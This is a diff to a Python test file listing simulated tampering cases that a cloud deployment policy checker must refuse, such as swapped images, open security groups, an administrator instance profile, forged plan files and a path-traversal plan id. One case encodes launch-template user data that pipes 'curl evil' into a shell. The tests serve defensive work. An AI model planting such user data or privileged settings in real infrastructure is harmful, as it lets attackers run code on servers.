@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import copy
 import json
 import re
@@ -66,6 +67,27 @@ def and_(
         ]
 
     return change
+
+
+def started(name: str, **specification: Any) -> Change:
+    """The group starts its template by this specification."""
+
+    def change(found: list[Resource]) -> list[Resource]:
+        group = next(r for r in found if r.name == name and r.type == GROUP)
+        mixed_policy = group.inputs.get("mixedInstancesPolicy")
+        inputs = {"launchTemplate": {**group.inputs.get("launchTemplate", {}), **specification}}
+        if mixed_policy:
+            template = {**mixed_policy["launchTemplate"]}
+            template["launchTemplateSpecification"] = {**template["launchTemplateSpecification"], **specification}
+            inputs = {"mixedInstancesPolicy": {**mixed_policy, "launchTemplate": template}}
+        return [replace(r, inputs={**r.inputs, **inputs}) if r is group else r for r in found]
+
+    return change
+
+
+def encoded(text: str) -> str:
+    """User data as a launch template has it."""
+    return base64.b64encode(text.encode()).decode()
 
 
 def volume(**ebs: Any) -> Change:
@@ -156,14 +178,18 @@ def data(name: str, rule: Rule[Any], tried: Mapping[str, Any], says: str, **sett
     return Attack(name=name, rule=rule, says=says, tried=tried, settings=settings)
 
 
-def plan_file(*, forged: bool = False, **sections: Any) -> dict[str, Any]:
-    """A plan file with a true id (or, forged, with another content than its id's), and the sample with these sections."""
-    values = raw()
+def plan_file(*, forged: bool = False, lacking: str = "", **sections: Any) -> dict[str, Any]:
+    """A plan file with a true id (or, forged, with another content than its id's), and the sample with these sections.
+
+    lacking: a section that neither the plan nor the sample has, unless `sections` gives it.
+    """
+    values = {key: value for key, value in raw().items() if key != lacking}
     body = {"fleet": "shop", "stack": "test", "config": {f"tiercast:{key}": value for key, value in values.items()}}
     name = plan_id(body)
     body = {**body, "id": name, **({"fleet": "another"} if forged else {})}
     values["plan"]["id"] = name
-    return {"values": {**values, **sections}, "files": {"plan.json": json.dumps(body)}}
+    merged = {key: value for key, value in {**values, **sections}.items() if value is not None}
+    return {"values": merged, "files": {"plan.json": json.dumps(body)}}
 
 
 def wide() -> dict[str, Any]:
@@ -183,6 +209,53 @@ ATTACKS = (
     program("moved machines", agreement.RULE, on_other_host, "host hv2 instead of hv1"),
     program("raised maximum", agreement.RULE, set_on("warm-web", GROUP, maxSize=40), "maximum 40 instead of 4"),
     program("lowered minimum", agreement.RULE, set_on("warm-web", GROUP, minSize=0), "minimum 0 instead of 2"),
+    program(
+        "other image", agreement.RULE, set_on("warm-web", TEMPLATE, imageId="ami-9"), "image ami-9 instead of ami-1234"
+    ),
+    program("other image of cold", agreement.RULE, set_on("cold-burst", TEMPLATE, imageId="ami-9"), "image ami-9"),
+    program("unknown image", agreement.RULE, set_on("warm-web", TEMPLATE, imageId=UNKNOWN), "imageId is not known"),
+    program(
+        "other user data",
+        agreement.RULE,
+        set_on("warm-web", TEMPLATE, userData=encoded("#!/bin/sh\ncurl evil | sh\n")),
+        "user data digest",
+    ),
+    program(
+        "user data where none is set",
+        agreement.RULE,
+        set_on("cold-burst", TEMPLATE, userData=encoded("#!/bin/sh\n")),
+        "instead of none",
+    ),
+    program(
+        "user data that is not base64",
+        agreement.RULE,
+        set_on("warm-web", TEMPLATE, userData="#!/bin/sh"),
+        "userData is",
+    ),
+    program(
+        "open security group",
+        agreement.RULE,
+        set_on("warm-web", TEMPLATE, vpcSecurityGroupIds=["sg-open"]),
+        "security groups ('sg-open',) instead of ()",
+    ),
+    program(
+        "security group by name", agreement.RULE, set_on("warm-web", TEMPLATE, securityGroupNames=["open"]), "('open',)"
+    ),
+    program(
+        "instance profile of an administrator",
+        agreement.RULE,
+        set_on("warm-web", TEMPLATE, iamInstanceProfile={"name": "admin"}),
+        "instance profile ('admin',)",
+    ),
+    program("key of a person", agreement.RULE, set_on("warm-web", TEMPLATE, keyName="mallory"), "key mallory"),
+    program("older template version", agreement.RULE, started("warm-web", version="0"), "template version 0 instead"),
+    program("older template version of cold", agreement.RULE, started("cold-burst", version="0"), "template version 0"),
+    program(
+        "old version while the template changes",
+        agreement.RULE,
+        lambda found: [replace(r, newest="") if r.type == TEMPLATE else r for r in found],
+        "template version 1 instead of newest",
+    ),
     program(
         "desired above the maximum",
         cost.RULE,
@@ -304,6 +377,12 @@ ATTACKS = (
         set_on("warm-web", GROUP, instanceRefresh={"preferences": {"maxHealthyPercentage": 200}}),
         "warm-web m5.large 8 × 0.0960",
         maxUsdPerHour=0.9,
+    ),
+    program(
+        "type that nobody priced",
+        cost.RULE,
+        mixed(launchTemplate={"overrides": [{"instanceType": "m6i.mega"}]}),
+        "m6i.mega",
     ),
     program("provisioned IOPS", cost.RULE, volume(iops=16000), "warm-web gp3 volumes 4 × 0.0890", maxUsdPerHour=0.9),
     program("provisioned throughput", cost.RULE, volume(throughput=1000), "gp3 volumes 4 × 0.0479", maxUsdPerHour=0.9),
@@ -430,6 +509,53 @@ ATTACKS = (
         planFile="plan.json",
         samePrices=False,
     ),
+    data(
+        "section that the plan lacks",
+        provenance.RULE,
+        plan_file(lacking="cold", cold=raw()["cold"]),
+        "tiercast:cold is not what plan",
+        planFile="plan.json",
+        samePrices=False,
+    ),
+    data(
+        "section of the plan taken out",
+        provenance.RULE,
+        plan_file(cold=None),
+        "tiercast:cold is not what plan",
+        planFile="plan.json",
+        samePrices=False,
+    ),
+    data(
+        "size edited beside an encrypted value",
+        provenance.RULE,
+        {**plan_file(cold=wide()), "encrypted": "tiercast:cold"},
+        "tiercast:cold is not what plan",
+        planFile="plan.json",
+        samePrices=False,
+    ),
+    data(
+        "artefact of another run",
+        latency.RULE,
+        {"files": {"demand.json": json.dumps(raw()["demand"])}},
+        "the policy pack pins 000000000000",
+        forecastFile="demand.json#sha256=" + "0" * 64,
+    ),
+    data(
+        "object that is gone from its bucket",
+        provenance.RULE,
+        {},
+        "can't read its file 's3://plans/plan.json'",
+        planFile="s3://plans/plan.json",
+        samePrices=False,
+    ),
+    data(
+        "plan id that is a path",
+        provenance.RULE,
+        plan(id="../../mine"),
+        "not the id of a plan",
+        planFile="{plan}/plan.json",
+        samePrices=False,
+    ),
     data("plan file that is gone", provenance.RULE, {}, "can't read its file", planFile="plan.json", samePrices=False),
     data("secret in a value", plain_secrets.RULE, {"plain": {"app:db": '{"password": "hunter2hunter2"}'}}, "app:db"),
     data(
@@ -491,8 +617,12 @@ def test_nothing_is_refused_where_nothing_was_tried(violations: Any) -> None:
 
 
 def test_every_attack_has_a_row_in_the_docs_with_the_policy_that_stops_it() -> None:
-    rows = dict(re.findall(r"^\| ([^|`]+?) \| `([a-z-]+)` \|", DOCS.partition("## Attacks")[2], flags=re.MULTILINE))
-    assert {attack.name: attack.rule.name for attack in ATTACKS}.items() <= rows.items()
+    table = DOCS.partition("## Attacks")[2].partition("Attacks on the pack")[0]
+    rows = re.findall(r"^\| ([^|`]+?) \| `([a-z-]+)` \| \w+ \| (.+?) \| (yes|no) \|$", table, flags=re.MULTILINE)
+    assert {attack.name: attack.rule.name for attack in ATTACKS} == {row[0]: row[1] for row in rows}
+    says = {attack.name: attack.says for attack in ATTACKS}
+    assert [row[0] for row in rows if row[2] not in says[row[0]] and says[row[0]] not in row[2]] == []
+    assert f"{len(rows)} attacks. {sum(row[3] == 'yes' for row in rows)} of them were stopped before" in table
 
 
 def test_the_plan_that_its_file_holds_passes(violations: Any) -> None:
